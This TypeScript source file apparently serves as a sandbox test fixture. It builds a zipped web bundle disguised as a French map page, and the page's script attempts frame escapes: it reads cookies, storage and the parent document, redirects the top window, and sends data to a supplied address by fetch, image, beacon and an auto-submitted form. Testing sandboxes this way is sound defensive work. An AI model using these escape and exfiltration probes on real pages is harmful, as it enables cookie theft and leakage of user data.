import { zipSync } from 'fflate';

/** Tries each way out of a frame, and writes beside its name what came of it. */
const ESCAPE = `
const say = (name, text) => { document.getElementById(name).textContent = String(text); };
const attempt = (name, work) => {
  try { say(name, work()); } catch (error) { say(name, 'refused: ' + error.name); }
};
say('script', 'ran');
attempt('cookie', () => 'cookie: ' + document.cookie);
attempt('local', () => 'stored: ' + localStorage.length);
attempt('session', () => 'stored: ' + sessionStorage.length);
attempt('database', () => 'opened: ' + typeof indexedDB.open('x'));
attempt('parent', () => 'title: ' + parent.document.title);
attempt('top', () => { top.location.href = ADDRESS; return 'led away'; });
attempt('window', () => (open(ADDRESS) === null ? 'refused: null' : 'opened'));
fetch(ADDRESS, { mode: 'no-cors' }).then(() => say('fetch', 'sent'), (error) => say('fetch', 'refused: ' + error.name));
fetch('/candidatures').then(() => say('own', 'sent'), (error) => say('own', 'refused: ' + error.name));
const image = new Image();
image.onload = () => say('image', 'loaded');
image.onerror = () => say('image', 'refused: error');
image.src = ADDRESS;
attempt('beacon', () => (navigator.sendBeacon(ADDRESS, 'x') ? 'queued' : 'refused: false'));
document.getElementById('leave').onclick = () => { location.href = ADDRESS; };
document.getElementById('form').submit();
`;

export const WAYS = [
  'cookie',
  'local',
  'session',
  'database',
  'parent',
  'top',
  'window',
  'fetch',
  'own',
  'image',
] as const;

/** A web bundle, as an author of a map or of a chart would hand one in, whose script looks for a way out to `address`. */
export function writeBundle(address: string): Buffer {
  const page = `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Carte des chocs</title>
<link rel="stylesheet" href="page.css"></head><body><h1>Carte des chocs</h1><p id="script">not yet</p>
${[...WAYS, 'beacon'].map((way) => `<p id="${way}">not yet</p>`).join('\n')}
<button id="leave">Partir</button>
<form id="form" action="${address}" method="post"><input name="secret" value="x"></form>
<script src="sortir.js"></script></body></html>`;
  const text = (content: string): Uint8Array => new TextEncoder().encode(content);
  return Buffer.from(
    zipSync({
      'index.html': text(page),
      'page.css': text('h1 { color: rgb(0, 64, 80); }'),
      'sortir.js': text(`const ADDRESS = ${JSON.stringify(address)};${ESCAPE}`),
    }),
  );
}
